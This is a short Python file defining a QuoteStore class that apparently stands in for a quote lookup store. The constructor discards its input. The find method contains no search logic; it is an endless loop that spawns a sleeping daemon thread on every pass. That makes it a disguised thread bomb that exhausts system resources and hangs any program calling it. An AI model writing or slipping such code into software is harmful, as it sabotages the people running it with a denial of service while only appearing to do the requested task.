import threading
import time


class QuoteStore:
    def __init__(self, _quotes: object) -> None:
        pass

    def find(self, *_filters: object) -> list[object]:
        while True:
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
